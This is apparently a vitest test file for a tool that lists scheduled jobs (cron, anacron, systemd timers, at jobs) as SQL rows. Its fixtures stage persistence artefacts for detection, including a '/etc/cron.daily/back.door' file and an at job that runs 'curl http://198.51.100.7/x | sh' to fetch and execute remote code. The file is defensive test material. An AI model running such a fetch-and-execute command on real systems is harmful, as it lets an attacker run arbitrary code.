import { expect, test } from 'vitest';
import { queryFixture } from '../query.fixture';

const AT_JOB = `#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
SECRET=token; export SECRET
cd /var/www || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
curl http://198.51.100.7/x | sh
`;

test('lists what runs by the clock outside of crontabs', async () => {
  const { rows } = await queryFixture(
    {
      '/etc/passwd': 'www-data:x:33:33::/var/www:/bin/sh\n',
      '/etc/cron.daily/.placeholder': '',
      '/etc/cron.daily/back.door': '#!/bin/sh',
      '/etc/anacrontab':
        '# x\nSHELL=/bin/sh\n7 10 cron.weekly run-parts /etc/cron.weekly\n@monthly 15 m run it\n',
      '/var/spool/cron/atjobs/.SEQ': '1',
      '/etc/systemd/system/x.timer': '[Timer]\nOnCalendar=daily\nOnBootSec=5min\nUnit=y.service\n',
      '/usr/lib/systemd/system/x.timer': '[Timer]\nOnCalendar=hidden\n',
      '/usr/lib/systemd/system/y.service':
        '[Service]\nUser=nobody\nExecStart=/bin/a \\\n  b\nExecStart=/bin/c\n',
      '/var/www/.config/systemd/user/u.timer': '[Timer]\nOnCalendar=*:0/5\n',
      '/var/www/.config/systemd/user/u.service': '[Service]\nExecStart=/tmp/u\n',
    },
    'SELECT kind, path, schedule, user, command FROM cron_files'
  );
  expect(rows).toEqual([
    {
      ...{ kind: 'periodic', path: '/etc/cron.daily/back.door', schedule: '@daily' },
      ...{ user: 'root', command: '/etc/cron.daily/back.door' },
    },
    {
      ...{ kind: 'anacron', path: '/etc/anacrontab', user: 'root' },
      ...{
        schedule: 'every 7 days, 10 minutes after start',
        command: 'run-parts /etc/cron.weekly',
      },
    },
    {
      ...{ kind: 'anacron', path: '/etc/anacrontab', user: 'root' },
      ...{ schedule: '@monthly, 15 minutes after start', command: 'run it' },
    },
    {
      ...{ kind: 'systemd_timer', path: '/etc/systemd/system/x.timer', user: 'nobody' },
      ...{ schedule: 'OnCalendar=daily, OnBootSec=5min', command: '/bin/a    b; /bin/c' },
    },
    {
      ...{ kind: 'systemd_timer', path: '/var/www/.config/systemd/user/u.timer' },
      ...{ schedule: 'OnCalendar=*:0/5', user: 'www-data', command: '/tmp/u' },
    },
  ]);
});

test('shows an at job with its moment and its command, but not its environment', async () => {
  const { rows } = await queryFixture(
    {
      '/etc/passwd': 'www-data:x:33:33::/var/www:/bin/sh\n',
      '/var/spool/cron/atjobs/a0000101b2f3c4': AT_JOB,
      '/var/spool/at/=0000a01b2f3c4': 'garbled',
    },
    'SELECT * FROM cron_files'
  );
  expect(rows).toMatchObject([
    {
      ...{ kind: 'at', user: 'www-data', command: 'curl http://198.51.100.7/x | sh' },
      schedule: '2024-03-13T03:48:00.000Z',
      mode: expect.stringMatching(/^0[0-7]{3}$/),
    },
    { kind: 'at', user: '', command: 'garbled' },
  ]);
  expect(JSON.stringify(rows)).not.toContain('token');
});
